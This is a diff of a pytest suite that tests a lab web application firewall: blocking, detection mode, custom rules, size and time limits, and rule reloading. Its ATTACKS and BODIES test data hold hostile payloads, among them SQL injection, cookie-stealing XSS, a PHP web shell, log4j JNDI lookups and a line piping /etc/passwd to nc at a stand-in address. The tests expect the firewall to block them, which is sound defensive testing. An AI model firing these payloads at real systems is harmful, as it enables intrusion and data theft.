@@ -3,6 +3,7 @@ day is not, by HTTP/1.1 and HTTP/2; limits, exclusions and detection only; worke
 rules that are loaded anew under traffic."""
 import concurrent.futures
 import json
+import os
 import urllib.parse
 
 import pytest
@@ -13,16 +14,17 @@ from lab.wait import until
 from lab.web import Web
 
 BASE = "http://shop.example:8080"
-VERSIONS = {"h1": "--http1.1", "h2c": "--http2-prior-knowledge"}
+OWN = 'SecRule ARGS:own "@streq {word}" "id:1000,phase:2,deny"\nSecRule REQUEST_BODY "@contains worst" "id:1001,phase:2,deny"\n'
+VERSIONS = {"h1": (BASE, "--http1.1"), "h2": ("https://shop.example:8443", "--http2")}
 FORM = ("-H", "Content-Type: application/x-www-form-urlencoded")
 JSON = ("-H", "Content-Type: application/json")
-WAF = {"time_max": "8s"}  # the machine of the tests is shared
+WAF = {"time_max": "20s"}  # the machine of the tests is shared
 FOLDER = {}
 
 
 def inspected(document):
     rules = FOLDER["path"] / "own.conf"
-    rules.write_text('SecRule ARGS:own "@streq bad" "id:1000,phase:2,deny,status:403"\n')
+    rules.write_text(OWN.format(word="bad"))
     document["l7"]["waf"] = {"workers": 2, "queue": 64}
     routes = [
         {"name": "detect", "match": {"path": "/echo/detect"}, "pool": "origin", "waf": {**WAF, "mode": "detect"}},
@@ -30,7 +32,7 @@ def inspected(document):
         {"name": "off", "match": {"path": "/echo/off"}, "pool": "origin", "waf": {"enabled": False}},
         {"name": "own", "match": {"path": "/echo/own"}, "pool": "origin", "waf": {**WAF, "files": [str(rules)]}},
         {"name": "slow", "match": {"path": "/echo/slow"}, "pool": "origin",
-         "waf": {**WAF, "time_max": "1s", "value_max": "1MiB", "body_max": "1MiB"}},
+         "waf": {**WAF, "time_max": "400ms", "value_max": "1MiB", "body_max": "1MiB"}},
         {"name": "api", "match": {"path": "/sink/api"}, "pool": "origin", "waf": {**WAF, "preset": "api", "when_over": "part"}}]
     for service in document["services"]:
         if service["name"].startswith("origin"):
@@ -65,20 +67,22 @@ def version(request):
     return VERSIONS[request.param]
 
 
-ATTACKS = {
-    "sql": "/echo?id=" + urllib.parse.quote("1' UNION SELECT password FROM users--"),
-    "xss": "/echo?q=" + urllib.parse.quote("<script>alert(document.cookie)</script>"),
-    "traversal": "/echo?file=../../../../etc/passwd",
-    "command": "/echo?x=" + urllib.parse.quote(";cat /etc/passwd|nc 10.0.0.1 80"),
-    "php": "/echo?x=" + urllib.parse.quote("<?php system($_GET['c']); ?>"),
-    "remote file": "/echo?f=" + urllib.parse.quote("http://192.0.2.66/shell.txt?"),
-    "log4j": "/echo?x=" + urllib.parse.quote("${jndi:ldap://192.0.2.66/a}"),
-}
+ATTACKS = {name: ("/echo?x=" + urllib.parse.quote(value),) for name, value in {
+    "sql": "1' UNION SELECT password FROM users--",
+    "xss": "<script>alert(document.cookie)</script>",
+    "traversal": "../../../../etc/passwd",
+    "command": ";cat /etc/passwd|nc 10.0.0.1 80",
+    "php": "<?php system($_GET['c']); ?>",
+    "remote file": "http://192.0.2.66/shell.txt?",
+    "log4j": "${jndi:ldap://192.0.2.66/a}",
+}.items()} | {"scanner": ("/echo", "-A", "sqlmap/1.7.2#stable (https://sqlmap.org)")}
+INJECTED = "user=admin&pass=" + urllib.parse.quote("' OR '1'='1")
 BODIES = {
-    "sql": FORM + ("-d", "user=admin&pass=" + urllib.parse.quote("' OR '1'='1")),
-    "json": JSON + ("-d", json.dumps({"a": {"b": ["x", "1' UNION SELECT password FROM users--"]}})),
-    "multipart": ("--form-string", "q=<script>alert(document.cookie)</script>"),
-    "upload": ("-F", "file=@/etc/hostname;filename=shell.php"),
+    "sql": ("/sink", *FORM, "-d", INJECTED),
+    "no type": ("/sink", "-H", "Content-Type:", "-d", INJECTED),
+    "json": ("/sink", *JSON, "-d", json.dumps({"a": {"b": ["x", "1' UNION SELECT password FROM users--"]}})),
+    "multipart": ("/sink", "--form-string", "q=<script>alert(document.cookie)</script>"),
+    "upload": ("/sink", "-F", "file=@/etc/hostname;filename=shell.php"),
 }
 ORDINARY = {
     "start": ("/echo",), "search": ("/echo?q=red+shoes&page=2&sort=price",), "words": ("/echo?q=" + urllib.parse.quote("rock'n'roll & jazz"),),
@@ -89,62 +93,83 @@ ORDINARY = {
 }
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_attacks_in_a_query(web, version, attack):
-    status, _, body = web.get(BASE + ATTACKS[attack], version)
-    assert (status, "waf" in body) == (403, True)
-    line = web.logged(reason="waf")[-1]
-    assert line["waf"] == "blocked" and line["waf_score"] >= 5 and line["waf_rules"], line
+def statuses(web, version, requests):
+    """Of (path, words of curl…) by name, one after another by one curl over one connection."""
+    (base, protocol), words = version, []
+    for path, *more in requests.values():
+        words += ["--next", "-sS", protocol, "--cacert", web.authority.certificate, "--max-time", 20, "-o", "/dev/null", "-w", "%{http_code} ", *more, base + path]
+    told = web.site.client.run("curl", *words[1:], timeout=60).stdout.split()
+    return dict(zip(requests, map(int, told), strict=True))
 
 
-@pytest.mark.parametrize("attack", BODIES)
-def test_attacks_in_a_body(web, version, attack):
-    assert web.get(BASE + "/sink", version, *BODIES[attack])[0] == 403
+def all_of(requests, status):
+    return dict.fromkeys(requests, status)
 
 
-def test_scanners(web, version):
-    assert web.get(BASE + "/echo", version, "-A", "sqlmap/1.7.2#stable (https://sqlmap.org)")[0] == 403
+def test_attacks_in_a_query(web, version):
+    before = len(web.access_log())
+    assert statuses(web, version, ATTACKS) == all_of(ATTACKS, 403)
+    until(lambda: len(web.access_log()) >= before + len(ATTACKS), 5, "all are logged")
+    for line in web.access_log()[before:]:
+        assert (line["waf"], line["reason"]) == ("blocked", "waf") and line["waf_score"] >= 5 and line["waf_rules"], line
 
 
-@pytest.mark.parametrize("request_", ORDINARY)
-def test_what_people_send(web, version, request_):
-    path, *words = ORDINARY[request_]
-    assert web.get(BASE + path, version, *words)[0] == 200, web.access_log()[-1]
+def test_attacks_in_a_body(web, version):
+    assert statuses(web, version, BODIES) == all_of(BODIES, 403)
 
 
-@pytest.mark.parametrize("method", ["GET", "PUT", "PATCH", "DELETE", "POST"])
-def test_what_apis_send(web, version, method):
-    words = () if method in ("GET", "DELETE") else ("-H", "Content-Type: application/problem+json", "-d", '{"title": "none left", "status": 409}')
-    assert web.get(BASE + "/sink/api", version, "-X", method, *words)[0] == 200, web.access_log()[-1]
-    assert web.get(BASE + "/sink", version, "-X", method, *words)[0] == (403 if method != "GET" else 200)
+def test_a_type_is_no_way_around(web, version):
+    """There is no gRPC where the pool speaks HTTP/1. (Refusals of it have status 200 all the same.)"""
+    grpc = ("/echo/own", "-H", "Content-Type: application/grpc", "-d", "worst")
+    before = len(web.access_log())
+    statuses(web, version, {"grpc": grpc, "two": (*grpc, *JSON)})
+    until(lambda: len(web.access_log()) >= before + 2, 5, "both are logged")
+    assert [line["reason"] for line in web.access_log()[before:]] == ["waf", "waf_over"]
+
+
+def test_what_people_send(web, version):
+    assert statuses(web, version, ORDINARY) == all_of(ORDINARY, 200), web.access_log()[-3:]
+
+
+def test_what_apis_send(web, version):
+    problem = ("-H", "Content-Type: application/problem+json", "-d", '{"title": "none left", "status": 409}')
+    methods = {"GET": (), "DELETE": (), "PUT": problem, "PATCH": problem, "POST": problem}
+    sent = {path: {method: (path, "-X", method, *more) for method, more in methods.items()} for path in ("/sink", "/sink/api")}
+    assert statuses(web, version, sent["/sink/api"]) == all_of(methods, 200), web.access_log()[-5:]
+    assert statuses(web, version, sent["/sink"]) == {**all_of(methods, 403), "GET": 200}
 
 
 def test_detection_exclusions_and_routes_without(web, version):
     attack = "?id=" + urllib.parse.quote("1' UNION SELECT password FROM users--")
-    for route, word in (("detect", "detected"), ("excluded", "pass"), ("off", None)):
-        assert web.get(BASE + f"/echo/{route}{attack}", version)[0] == 200
-        assert web.logged(route=route)[-1].get("waf") == word
-    assert web.get(BASE + "/echo/own?own=bad", version)[0] == 403 and web.get(BASE + "/echo/own" + attack, version)[0] == 200
+    words = {"detect": "detected", "excluded": "pass", "off": None, "own": "pass"}
+    assert statuses(web, version, {route: (f"/echo/{route}{attack}",) for route in words}) == all_of(words, 200)
+    for route, word in words.items():
+        assert web.logged(route=route, waf=word)
+    assert statuses(web, version, {"own": ("/echo/own?own=bad",)}) == {"own": 403}
 
 
 def test_ten_megabytes(web, version):
-    words = ("-H", "Expect:", "-H", "Content-Type: application/octet-stream", "--data-binary", "@/tmp/waf-10m")
-    web.site.client.run("dd", "if=/dev/urandom", "of=/tmp/waf-10m", "bs=1M", "count=10", "status=none")
-    status, _, body = web.get(BASE + "/sink/api", version, *words)
+    upload = FOLDER["path"] / "upload"
+    upload.write_bytes(os.urandom(10 << 20))
+    words = ("-H", "Expect:", "-H", "Content-Type: application/octet-stream", "--data-binary", f"@{upload}")
+    base, protocol = version
+    status, _, body = web.get(base + "/sink/api", protocol, *words)
     assert (status, json.loads(body)["length"]) == (200, 10 << 20)
     assert web.logged(route="api", waf="over")
-    assert web.get(BASE + "/sink", version, *words)[0] == 413
+    assert statuses(web, version, {"too much": ("/sink", *words)}) == {"too much": 413}
 
 
 def test_a_slow_request_ends_its_worker_and_nobody_elses_answer(web):
-    slow = ("-H", "Content-Type: application/x-www-form-urlencoded", "-d", "a=" + urllib.parse.quote("x y' or ") * 12_000)
+    long = FOLDER["path"] / "long"
+    long.write_text("a=" + urllib.parse.quote("x y' or ") * 60_000)
+    slow = (*FORM, "-H", "Expect:", "-d", f"@{long}")
     with concurrent.futures.ThreadPoolExecutor(6) as pool:
         slows = [pool.submit(web.get, BASE + "/echo/slow", *slow) for _ in range(2)]
-        others = [pool.submit(web.get, BASE + "/echo?q=1") for _ in range(20)]
-        assert [done.result()[0] for done in others] == [200] * 20
+        others = [pool.submit(web.get, BASE + "/echo?q=1") for _ in range(8)]
+        assert [done.result()[0] for done in others] == [200] * 8
         assert [done.result()[0] for done in slows] == [503] * 2
-    assert web.logged(route="slow")[-1]["reason"] == "waf_late"
-    assert web.cardea.cli("status")["waf"]["late"] >= 1
+    assert web.logged(route="slow", reason="waf_late")
+    until(lambda: web.cardea.cli("status")["waf"]["late"] >= 2, 10, "both workers have used up their time")
 
 
 def test_killed_workers_are_replaced(web):
@@ -157,24 +182,24 @@ def test_killed_workers_are_replaced(web):
 
 def test_rules_are_loaded_anew_and_broken_ones_refused(web):
     rules = FOLDER["path"] / "own.conf"
-    rules.write_text('SecRule ARGS:own "@streq worse" "id:1000,phase:2,deny,status:403"\n')
+    rules.write_text(OWN.format(word="worse"))
     with concurrent.futures.ThreadPoolExecutor(2) as pool:
-        running = [pool.submit(web.get, BASE + "/echo?q=1") for _ in range(30)]
+        running = [pool.submit(web.get, BASE + "/echo?q=1") for _ in range(12)]
         web.reload()
-        assert [done.result()[0] for done in running] == [200] * 30
+        assert [done.result()[0] for done in running] == [200] * 12
     assert web.get(BASE + "/echo/own?own=worse")[0] == 403 and web.get(BASE + "/echo/own?own=bad")[0] == 200
     rules.write_text("SecFoo bar\n")
     refused = web.cardea.reload(check=False)
     assert refused.returncode != 0 and "own.conf" in refused.stderr + refused.stdout and "Line: 1" in refused.stderr + refused.stdout
     assert web.get(BASE + "/echo/own?own=worse")[0] == 403
-    rules.write_text('SecRule ARGS:own "@streq bad" "id:1000,phase:2,deny,status:403"\n')
+    rules.write_text(OWN.format(word="bad"))
     web.reload()
 
 
 def test_explain_and_status_tell(web):
     story = web.cardea.explain_url("GET", BASE + "/echo?q=1")
     assert story["waf"] == "block" and any("core rule set" in line for line in story["story"])
-    assert "2 workers" in web.cardea.run("status").stdout
+    until(lambda: "2 workers" in web.cardea.run("status").stdout, 5, "the workers of the last rules are told of")
 
 
 def test_while_it_is_away(web):
